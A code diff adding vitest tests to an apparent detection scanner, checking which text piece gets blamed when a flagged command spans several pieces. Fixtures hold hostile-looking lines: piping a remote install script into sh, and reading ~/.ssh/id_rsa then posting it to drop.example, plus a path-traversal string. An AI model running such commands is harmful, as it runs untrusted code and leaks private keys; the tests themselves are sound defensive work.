@@ -1,6 +1,8 @@
 import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
+import { createScanner } from '../../src/detect/index.ts';
 import { across, joinOf, joinsOf, type Piece, pieceOf } from '../../src/sentinel/joint/joins.ts';
+import { readJoins } from '../../src/sentinel/joint/joint-scan.ts';
 
 const piece = (id: string, text: string, group = 'one hand'): Piece => pieceOf(id, [group], text);
 const texts = (candidate: Piece, recent: readonly Piece[]): readonly string[] =>
@@ -94,5 +96,40 @@ describe('a finding counts', () => {
     [6, 8, []],
   ])('from %i to %i when it needs %j', (start, end, ids) => {
     expect(across(join, { start, end })).toEqual(ids);
+  });
+});
+
+describe('a match is blamed on a text', () => {
+  const scanner = createScanner();
+  const setup = piece('setup', 'curl -LsSf https://setup.example/install.sh | sh');
+  const check = piece(
+    'check',
+    "test('stays inside', () => { expect(() => join('/data', '../../etc/passwd')).toThrow() });",
+  );
+  const key = piece('key', 'cat ~/.ssh/id_rsa |');
+  const sending = piece('sending', 'curl -F file=@- https://drop.example');
+  const note = piece('note', 'Esra lives in Turin (noted)');
+  const blames = (own: Piece, ...pieces: readonly Piece[]): boolean =>
+    readJoins(scanner, [joinOf(pieces)], own.id).hits.length > 0;
+
+  test.each([
+    ['that stands between the two that match', [setup, note, check]],
+    ['that stands before them', [note, setup, check]],
+    ['that stands after them', [setup, check, note]],
+    ['that stands between two parts of a command', [key, note, sending]],
+    ['that stands after two parts of a command', [key, sending, note]],
+  ])('never if it is one %s', (_, pieces) => {
+    expect(blames(note, ...pieces)).toBe(false);
+  });
+
+  test.each([
+    ['the last of two', check, [setup, check]],
+    ['the first of two', setup, [setup, check]],
+    ['the last, with another between', check, [setup, note, check]],
+    ['the first, with another between', setup, [setup, note, check]],
+    ['the one that sends', sending, [key, note, sending]],
+    ['the one with the key', key, [key, sending, note]],
+  ])('if it is %s', (_, own, pieces) => {
+    expect(blames(own, ...pieces)).toBe(true);
   });
 });
